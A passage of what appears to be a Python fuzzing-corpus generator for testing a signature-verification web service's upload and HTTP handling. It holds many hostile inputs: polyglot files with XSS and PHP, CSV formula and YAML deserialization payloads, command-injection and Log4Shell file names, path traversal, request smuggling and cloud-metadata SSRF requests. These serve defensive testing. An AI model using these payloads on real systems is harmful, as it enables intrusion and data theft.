        'a.mp3': b'ID3\3\0\0\0\0\x0f\x76' + bytes(99),
        'a.ogg': b'OggS\0\2' + bytes(99),
        'a.flac': b'fLaC' + bytes(99),
        'a.j2k': b'\xff\x4f\xff\x51' + bytes(99),
        'a.jxl': b'\xff\x0a' + bytes(99),
        'a.jxr': b'II\xbc\1' + bytes(99),
        'a.wmf': b'\xd7\xcd\xc6\x9a' + bytes(99),
        'a.emf': b'\1\0\0\0' + bytes(36) + b' EMF' + bytes(99),
        'a.fits': b'SIMPLE  =                    T' + b' ' * 2851,
        'a.cur': b'\0\0\2\0\1\0' + bytes(99),
        'a.xpm': b'/* XPM */\nstatic char *x[] = {"99999 99999 1 1"};',
        'a.ani': b'RIFF\0\0\0\0ACON',
        'a.djvu': b'AT&TFORM\0\0\0\0DJVU',
        'a.flif': b'FLIF' + bytes(9),
        'a.qoi': b'qoif' + struct.pack('>II', 2**32 - 1, 2**32 - 1) + b'\3\0',
        'a.pfm': b'Pf\n99999 99999\n-1\n',
        'a.pgm': b'P5 99999 99999 255\n',
        'a.pbm': b'P1\n9 9\n' + b'1 0 ' * 40,
        'eicar.com': base64.b64decode(
            'WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo='
        ),
        'a.json': b'{"a":' * 5000,
        'a.csv': b'=cmd|"/C calc"!A0\n',
        'a.yaml': b'!!python/object/apply:os.system ["id"]',
        'data-url.txt': b'data:image/png;base64,' + base64.b64encode(saved(signature(), 'PNG')),
        'path.txt': b'/etc/passwd',
        'url.txt': b'http://169.254.169.254/',
    }.items()


def zipped(name, data):
    b = io.BytesIO()
    z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)
    z.writestr(zipfile.ZipInfo(name), data)
    z.close()
    return b.getvalue()


def tar():
    b = io.BytesIO()
    t = tarfile.open(fileobj=b, mode='w')
    i = tarfile.TarInfo('../../etc/x')
    i.type = tarfile.SYMTYPE
    i.linkname = '/etc/passwd'
    t.addfile(i)
    t.close()
    return b.getvalue()


def polyglots():
    p, j = saved(signature(), 'PNG'), saved(signature(), 'JPEG')
    yield from {
        'png+zip.png': p + zipped('evil.py', b'import os'),
        'zip+png.zip': zipped('x', b'') + p,
        'jpeg+html.html': b'<html><script>alert(1)</script>' + j,
        'jpeg-comment-html.jpg': saved(signature(), 'JPEG', comment=b'--><script>alert(1)</script><!--'),
        'png+php.php': p + b'<?php phpinfo(); ?>',
        'gif+js.gif': b'GIF89a=1;alert(1)//' + bytes(99),
        'png+jpeg.png': p + j,
        'jpeg+png.jpg': j + p,
        'png-jpeg-head.png': p[:8] + j,
        'bmp+js.bmp': b'BM=alert(1);/*' + bytes(999),
        'tiff+pe.tif': b'II*\0' + b'MZ' * 99,
        'pdf+jpeg.pdf': b'%PDF-1.4\n' + j,
        'webp+html.webp': saved(signature(), 'WEBP') + b'<script>',
    }.items()


def junk():
    magics = dict(
        png=b'\x89PNG\r\n\x1a\n',
        jpg=b'\xff\xd8\xff\xe0',
        webp=b'RIFF\x10\x27\0\0WEBPVP8 ',
        tif=b'II*\0\x08\0\0\0',
        bmp=b'BM',
    )
    yield 'empty.png', b''
    yield 'text.png', b'no picture'
    yield 'utf-16.png', 'no picture'.encode('utf-16')
    yield 'spaces.png', b' ' * 9999
    yield 'newlines.png', b'\r\n' * 9999
    yield 'boundary.png', b'\r\n--boundary--\r\n' * 99
    for v in (0, 10, 0x42, 0x89, 0xFF):
        yield f'byte-{v}.png', bytes([v])
    for n in (2, 16, 1024, 10**6):
        yield f'{n}-nuls.png', bytes(n)
        yield f'{n}-ones.png', b'\xff' * n
    for i in range(16):
        yield f'random-{i}.png', random.Random(i).randbytes(2**i)
    for ext, m in magics.items():
        yield f'magic.{ext}', m
        for i in range(8):
            yield f'magic-and-random-{i}.{ext}', m + random.Random(i).randbytes(4**i)


NAMES = [
    '../../etc/passwd',
    '..\\..\\windows\\system32\\cmd.exe',
    '/etc/passwd',
    'C:\\con\\con',
    'CON',
    'NUL.png',
    'COM1.png',
    'a.png\0.exe',
    '\0',
    'a"b.png',
    "a'b.png",
    'a;b.png',
    'a"; name="fmr',
    'a\r\nX-Evil: 1\r\n\r\n.png',
    'a\nb.png',
    '\r\n\r\n--boundary\r\n',
    'gnp.\u202ephp',
    '\u202e\u2066\u200b.png',
    'ünï-签名-подпись.png',
    '💣.png',
    'e\u0301' * 99 + '.png',
    '\ud800.png',
    '\x1b[31mred.png',
    '\x07\x08\x7f.png',
    '.',
    '..',
    '',
    ' ',
    '.png',
    '.htaccess',
    '-rf',
    '--help',
    '$(id).png',
    '`id`.png',
    '|id',
    '%00.png',
    '%2e%2e%2f',
    '%s%n%x',
    '{{7*7}}.png',
    '<img src=x onerror=alert(1)>.png',
    "'; DROP TABLE writers; --",
    '${jndi:ldap://x/a}',
    '~root',
    'http://x/a.png',
    'file:///etc/passwd',
    '\\\\host\\share\\a.png',
    'a.png:stream',
    'a' * 255 + '.png',
    'a' * 10_000 + '.png',
    '../' * 3000,
    'a.png/',
    'a' * 5000 + '"' * 5000,
]


kinds = [  # folder, files, extension
    ('truncated', truncated, ''),
    ('flipped', flipped, ''),
    ('png', pngs, '.png'),
    ('lies', lies, ''),
    ('bomb', bombs, ''),
    ('tiff', tiffs, '.tif'),
    ('jpeg', jpegs, '.jpg'),
    ('bmp', bmps, '.bmp'),
    ('frames', frames, ''),
    ('notes', notes, ''),
    ('heavy', heavy, ''),
    ('stranger', strangers, ''),
    ('polyglot', polyglots, ''),
    ('junk', junk, ''),
]
content_types = 'text/html', 'image/svg+xml', 'application/x-php', 'image/gif', '', 'multipart/form-data; boundary=x'
content_types += 'x' * 5000, 'image/png; charset=utf-7', '../../x', '*/*'


def type_of(file_name):
    return TYPES.get(file_name.rsplit('.')[-1], 'application/octet-stream')


def uploads():
    """Every upload: name, content type, bytes, file name.

    The name begins with the kind of trick; uploads in `good/` have to be answered."""
    for folder, files, ext in [('good', good, ''), *kinds]:
        for name, b in files():
            yield f'{folder}/{name}{ext}', type_of(name + ext), b, name + ext
    picture = saved(signature(), 'PNG')
    for i, name in enumerate(NAMES):
        folder = 'good' if len(name) < 1000 else 'name'  # the head of a part may be refused for its length
        yield f'{folder}/name-{i}', 'image/png', picture, name
    for content_type in content_types:
        folder = 'good' if len(content_type) < 1000 else 'name'
        yield f'{folder}/type-{content_type[:20]}', content_type, picture, 'a.png'
    for name, b in good():
        if name in ('grey.png', 'rgb.jpg', 'lossy.webp', 'raw.tif', 'rgb.bmp'):
            for ext in ('png', 'jpg', 'gif', 'exe', 'svg'):
                yield f'good/ending-{ext}-{len(b)}', type_of(f'a.{ext}'), b, f'a.{ext}'


def escaped(name):
    "A file name as browsers write it into the head of a part"
    return name.replace('"', '%22').replace('\r', '%0D').replace('\n', '%0A')


def multipart(fields=(), files=(), escape=escaped, boundary='boundary'):
    "Body of a form: `fields` are (name, text), `files` are (field, file name, content type, bytes)"
    start = f'--{boundary}\r\nContent-Disposition: form-data; name='
    parts = [f'{start}"{name}"\r\n\r\n{text}\r\n'.encode() for name, text in fields]
    for field, name, content_type, b in files:
        head = f'{start}"{field}"; filename="{escape(name)}"\r\n'.encode('utf-8', 'surrogatepass')
        if content_type:
            head += f'Content-Type: {content_type}\r\n'.encode()
        parts.append(head + b'\r\n' + b + b'\r\n')
    return b''.join(parts) + f'--{boundary}--\r\n'.encode()


# --- the wire ---


def post(path, body=b'', head=(), kind='multipart/form-data; boundary=boundary', length=True):
    lines = [f'POST {path} HTTP/1.1', 'Host: 127.0.0.1']
    if kind:
        lines.append(f'Content-Type: {kind}')
    if length:
        lines.append(f'Content-Length: {len(body)}')
    return '\r\n'.join([*lines, *head]).encode() + b'\r\n\r\n' + body


def get(path, *head, version=' HTTP/1.1'):
    lines = [f'GET {path}{version}', 'Host: 127.0.0.1', *head, '']
    return '\r\n'.join(lines).encode() + b'\r\n'


def chunked(*parts):
    return b''.join(b'%x\r\n%s\r\n' % (len(o), o) for o in parts)


def requests():
    """Attacks on forms, on HTTP and on paths: name, what is sent, and the statuses that may come.

    What is sent are bytes, and numbers for a wait of so many seconds. Status 0 is a closed connection."""
    picture = saved(signature(), 'PNG')
    form = multipart(files=[file(picture)])
    for attack in (wrong_bodies, wrong_forms, wrong_parts):
        yield from attack(picture, form)
    yield from many_references(picture)
    yield from wrong_fields(picture)
    for attack in (wrong_lengths, wrong_chunks):
        yield from attack(form)
    for attack in (wrong_heads, methods, paths, headers):
        yield from attack()


refused = 400, 413, 415, 422
in_chunks = 'Transfer-Encoding: chunked'


def file(picture, field='image'):
    return field, 'a.png', 'image/png', picture


def ink(name, body, allow=refused, **kw):
    return name, [post('/ink', body, **kw)], allow


def wrong_bodies(picture, form):
    "Bodies that are no form, or whose boundary is wrong"
    yield ink('no boundary', form, kind='multipart/form-data')
    yield ink('empty boundary', form, kind='multipart/form-data; boundary=')
    yield ink('wrong boundary', form, kind='multipart/form-data; boundary=other')
    yield ink('boundary of 10000', form, kind='multipart/form-data; boundary=' + 'b' * 10_000)
    yield ink('boundary of umlauts', form, kind='multipart/form-data; boundary=\xfc')
    yield ink('no final boundary', form[:-14])
    yield ink('cut in the head of a part', form[:40])
    yield ink('nothing but the end', b'--boundary--\r\n')
    yield ink('no form at all', b'', kind=None)
    yield ink('empty form', b'')
    yield ink('JSON', b'{"image":null}', kind='application/json')
    yield ink('deep JSON', b'[' * 100_000, kind='application/json')
    yield ink('urlencoded', b'image=x', kind='application/x-www-form-urlencoded')
    yield ink('raw image', picture, kind='image/png')
    yield ink('gzipped body', gzip.compress(form), head=['Content-Encoding: gzip'])


def wrong_forms(picture, form):
    "Forms with too much, or with the wrong fields"
    yield ink('1000 files', multipart(files=[file(picture)] * 1000))
    yield ink('1000 empty files', multipart(files=[('image', 'a', 'image/png', b'')] * 1000))
    yield ink('1000 fields', multipart([('x', 'y')] * 1000, [file(picture)]))
    yield ink('1000 files of other names', multipart(files=[file(picture, f'x{i}') for i in range(1000)]))
    yield ink('field of 5 MB', multipart([('image', 'x' * 5_000_000)]))
    yield ink('other field of 20 MB', multipart([('x', 'y' * 20_000_000)], [file(picture)]))
    yield ink('image as a field', multipart([('image', 'x')]))
    yield ink('image twice', multipart(files=[file(picture), file(picture)]), allow=(200, *refused))
    yield ink('name of 100 KB', multipart([('x' * 100_000, 'y')], [file(picture)]))
    yield ink(
        'nested multipart',
        multipart(
            files=[
                ('image', 'a', 'multipart/mixed; boundary=inner', multipart(files=[file(picture)], boundary='inner'))
            ]
        ),
    )


def wrong_parts(picture, form):
    "Parts of a form with a strange head or content"
    yield ink('part without a name', b'--boundary\r\nContent-Disposition: form-data\r\n\r\nx\r\n--boundary--\r\n')
    yield ink('part without a head', b'--boundary\r\n\r\nx\r\n--boundary--\r\n')
    yield ink('part with 10000 headers', b'--boundary\r\n' + b'X: y\r\n' * 10_000 + b'\r\nx\r\n--boundary--\r\n')
    yield ink('header of a part without end', b'--boundary\r\nX: ' + b'y' * 2_000_000)
    yield ink('_charset_', multipart([('_charset_', 'utf-7')], [file(picture)]), allow=(200, *refused))
    yield ink(
        'base64 part',
        form.replace(b'Content-Type: image/png', b'Content-Transfer-Encoding: base64'),
        allow=(200, *refused),
    )
    yield ink('lone line feeds', form.replace(b'\r\n', b'\n', 3))
    yield ink('NUL in a name', multipart([('ima\0ge', 'x')], [file(picture)]), allow=(200, *refused))
    yield ink('11 MB', multipart(files=[('image', 'a', 'image/png', bytes(11_000_000))]), allow=(413,))


def many_references(picture):
    many = [('references', f'{i}.png', 'image/png', picture) for i in range(13)]
    large = [('references', 'a', 'image/png', picture + bytes(9_900_000))] * 12
    questioned = file(picture, 'questioned')
    yield '13 references', [post('/verify', multipart(files=[questioned, *many]))], refused
    yield '13 references to enrol', [post('/writers/many/references', multipart(files=many))], refused
    yield '12 x 9.9 MB', [post('/verify', multipart(files=[questioned, *large]))], (200, 409, *refused)


def wrong_fields(picture):
    values = dict(
        fmr=('nan', '-1', '1e999', '0x1', '9' * 9999),
        explain=('maybe',),
        page=('0', '-1', '99', '1.5', '9' * 9999),
        which=('0', '99', 'both', '-9' * 99),
        writer=('../../etc', 'a\0b', 'x' * 101, "' or 1=1 --", '\u202e'),
    )
    for name, value in ((name, o) for name, every in values.items() for o in every):
        fields = [(name, value)] + [('writer', 'nobody')] * (name != 'writer')
        form = multipart(fields, [file(picture, 'questioned')])
        yield f'{name}={value[:12]!r}', [post('/verify', form)], (404, *refused)


def wrong_lengths(form):
    "Lengths that lie"
    for n in ('-1', '+5', '1e3', '0x10', '99999999999999999999', '', '5, 5', 'abc'):
        yield f'Content-Length: {n}', [post('/ink', form, length=False, head=[f'Content-Length: {n}'])], (0, *refused)
    yield 'two lengths', [post('/ink', form, head=[f'Content-Length: {len(form) + 5}'])], (0, *refused)
    yield (
        'length too short',
        [post('/ink', form, length=False, head=[f'Content-Length: {len(form) - 99}'])],
        (0, *refused),
    )
    yield (
        'length of 11 MB announced',
        [post('/ink', length=False, head=['Content-Length: 11000000']), form],
        (0, 408, *refused),
    )
    yield (
        'length of 1 TB announced',
        [post('/ink', length=False, head=['Content-Length: 1000000000000']), form],
        (0, *refused),
    )
    yield 'length and chunks', [post('/ink', chunked(form, b''), head=[in_chunks])], (0, 200, *refused)
    yield (
        'smuggled request',
        [post('/ink', b'0\r\n\r\nGET /decisions HTTP/1.1\r\nHost: x\r\n\r\n', head=[in_chunks])],
        (0, *refused),
    )
    for t in ('xchunked', 'gzip, chunked', 'chunked, identity', ' chunked', 'identity'):
        yield (
            f'Transfer-Encoding: {t}',
            [post('/ink', chunked(form, b''), length=False, head=[f'Transfer-Encoding: {t}'])],
            (0, 200, 501, *refused),
        )


def wrong_chunks(form):
    yield (
        'chunks without end',
        [post('/ink', length=False, head=[in_chunks]), *[chunked(b'x' * 2**20)] * 300],
        (0, *refused),
    )
    yield (
        'good chunks',
        [
            post(
                '/ink',
                chunked(*(form[i : i + 1000] for i in range(0, len(form), 1000)), b''),
                length=False,
                head=[in_chunks],
            )
        ],
        (200, 422),
    )
    yield (
        'chunks of one byte',
        [post('/ink', chunked(*(form[i : i + 1] for i in range(len(form))), b''), length=False, head=[in_chunks])],
        (200, 422),
    )
    yield 'garbage for chunks', [post('/ink', b'zz\r\nhello\r\n', length=False, head=[in_chunks])], (0, *refused)
    yield 'chunk of minus one', [post('/ink', b'-1\r\nhello\r\n', length=False, head=[in_chunks])], (0, *refused)
    yield (
        'chunk of 2**64',
        [post('/ink', b'ffffffffffffffff\r\nhello\r\n', length=False, head=[in_chunks]), 0.1],
        (0, 408, *refused),
    )
    yield (
        'chunk extension of 1 MB',
        [post('/ink', b'5;' + b'x' * 10**6 + b'\r\nhello\r\n', length=False, head=[in_chunks])],
        (0, *refused),
    )
    yield (
        'trailers of 1 MB',
        [post('/ink', chunked(form) + b'0\r\n' + b'X: y\r\n' * 200_000 + b'\r\n', length=False, head=[in_chunks])],
        (0, 200, *refused),
    )
    yield (
        'Expect of 1 TB',
        [post('/ink', length=False, head=['Content-Length: 1000000000000', 'Expect: 100-continue'])],
        (0, *refused),
    )
    yield 'unknown Expect', [post('/ink', form, head=['Expect: the-spanish-inquisition'])], (0, 200, 417, *refused)


def wrong_heads():
    yield 'header of 100 KB', [get('/healthz', 'X-Big: ' + 'x' * 100_000)], (0, 200, 400, 431)
    yield '10000 headers', [get('/healthz', *['X: y'] * 10_000)], (0, 200, 400, 431)
    yield 'header without end', [b'GET / HTTP/1.1\r\nX: ', *[b'y' * 10_000] * 100], (0, 400, 431)
    yield 'NUL in a header', [get('/healthz', 'X: a\0b')], (0, 200, 400)
    yield 'folded header', [get('/healthz', 'X: a\r\n b')], (0, 200, 400)
    yield 'header without colon', [get('/healthz', 'evil')], (0, 400)
    yield 'space before colon', [get('/healthz', 'Content-Length : 5')], (0, 400)
    yield 'two hosts', [get('/healthz', 'Host: evil')], (0, 200, 400, 401, 403, 421)
    yield 'no host', [b'GET /healthz HTTP/1.1\r\n\r\n'], (0, 400)
    yield 'HTTP/0.9', [b'GET /healthz\r\n\r\n'], (0, 400)
    yield 'HTTP/1.0', [get('/healthz', version=' HTTP/1.0')], (200,)
    yield 'HTTP/2 by force', [b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'], (0, 400, 404, 405, 505)
    yield 'HTTP/9.9', [get('/healthz', version=' HTTP/9.9')], (0, 200, 400, 505)
    yield 'TLS', [b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + bytes(500)], (0, 400)
    yield 'nothing', [b'', 0.1], (0, 408)
    yield 'garbage', [random.Random(0).randbytes(5000), b'\r\n\r\n'], (0, 400)
    yield (
        'upgrade to websocket',
        [
            get(
                '/',
                'Upgrade: websocket',
                'Connection: Upgrade',
                'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
                'Sec-WebSocket-Version: 13',
            )
        ],
        (0, 200, 400, 403, 404, 426),
    )
    yield (
        'upgrade to h2c',
        [get('/healthz', 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__')],
        (200,),
    )


def methods():
    for m in ('TRACE', 'CONNECT', 'PROPFIND', 'EVIL', 'get', 'OPTIONS', 'DELETE', 'PUT', 'PATCH'):
        yield f'method {m}', [f'{m} /verify HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0, 400, 404, 405, 501)


def paths():
    for p in (
        '/page/../../etc/passwd',
        '/page/../../../etc/passwd',
        '/page/%2e%2e/%2e%2e/etc/passwd',
        '/page/..%2f..%2fetc%2fpasswd',
        '/page/%252e%252e/etc/passwd',
        '/page/..\\..\\etc\\passwd',
        '/page/....//....//etc/passwd',
        '/page//etc/passwd',
        '/page/%2fetc%2fpasswd',
        '/page/..;/api.py',
        '/page/%c0%ae%c0%ae/',
        '/page/\0',
        '/page/%00',
        '/page/index.html%00.png',
        '/page/../api.py',
        '/page/%2e%2e/weights/verifier.onnx',
        '//etc/passwd',
        '/../../etc/passwd',
        '/.git/config',
        '/.env',
        '/page/.',
        '/page/..',
        '/page/' + 'a/' * 5000,
    ):
        yield f'path {p[:40]!r}', [get(p)], (0, 307, 400, 401, 404, 405, 414, 422)
    for p in (
        '/writers/../decisions',
        '/writers/%2e%2e',
        '/writers/a%2fb',
        '/writers/%00',
        '/writers/%ff%fe',
        '/writers/' + 'x' * 101,
        '/writers/' + 'x' * 50_000,
        "/writers/'%20or%201=1--",
        '/writers/%F0%9F%92%A3',
        '/writers?limit=-1',
        '/writers?limit=99999999999999999999',
        '/writers?after=' + 'x' * 5000,
        '/writers?limit=nan',
        '/decisions?after=1e9',
        '/decisions?after=-99999999999999999999',
        '/decisions?limit=' + '9' * 5000,
    ):
        yield f'path {p[:40]!r}', [get(p)], (0, 200, 307, 400, 404, 414, 422)
    yield 'absolute form', [get('http://169.254.169.254/latest/meta-data/')], (0, 400, 401, 404, 421)
    yield 'absolute form to us', [get('http://127.0.0.1/healthz')], (0, 200, 400, 404)
    yield 'authority form', [b'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n'], (0, 400, 404, 405)
    yield 'star form', [b'OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'], (0, 200, 204, 400, 404, 405)
    yield 'no path', [b'GET  HTTP/1.1\r\nHost: x\r\n\r\n'], (0, 400)
    yield 'path of umlauts', ['GET /ü HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.encode()], (0, 400, 404)


def headers():
    for h in (
        'Authorization: Bearer',
        'Authorization: Bearer sa_',
        'Authorization: Bearer ' + 'x' * 10_000,
        'Authorization: Basic YTpi',
        'Authorization: Bearer sa_\xff',
        'Authorization: \x00',
    ):
        yield f'{h[:30]!r}', [get('/writers', h)], (0, 200, 400, 401)
    for h in (
        'Accept: image/evil',
        'Accept-Encoding: gzip;q=nan, evil',
        'Range: bytes=0-0,0-0,' + '0-0,' * 1000,
        'If-None-Match: "' + 'x' * 9000,
        'Content-Type: \xff',
        'Cookie: ' + 'a=b; ' * 1000,
        'X-Forwarded-For: 127.0.0.1',
        'X-Forwarded-Host: evil',
        'Forwarded: for=127.0.0.1',
    ):
        yield f'{h[:30]!r}', [get('/', h)], (0, 200, 206, 304, 400, 401, 406, 416)


def safe(name):
    "A name of an upload as the name of a file"
    return ''.join(c if c.isascii() and (c.isalnum() or c in '.-+') else '_' for c in name)[:80]


def main(folder=None):
    count, size = Counter(), 0
    for i, (name, _, b, _) in enumerate(uploads()):
        count[name.split('/')[0]] += 1
        size += len(b)
        if folder:
            path = Path(folder, f'{i:04}-{safe(name)}')
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(b)
    print(f'{count.total()} files, {size / 1e6:.0f} MB:', ', '.join(f'{n} {kind}' for kind, n in count.items()))
    print(sum(1 for _ in requests()), 'requests')


if __name__ == '__main__':
    main(*sys.argv[1:2])
